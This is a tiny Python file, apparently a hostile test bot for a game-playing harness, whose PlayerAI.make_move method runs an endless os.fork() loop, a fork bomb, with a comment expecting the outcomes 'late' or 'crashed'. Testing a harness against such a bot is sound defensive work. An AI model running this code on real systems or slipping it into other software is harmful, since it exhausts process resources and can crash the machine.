"""Forks in all of its processes without end."""
#: first = ["late", "crashed"]
import os

class PlayerAI:
    def make_move(self, board):
        while True:
            try:
                os.fork()
            except OSError:
                pass
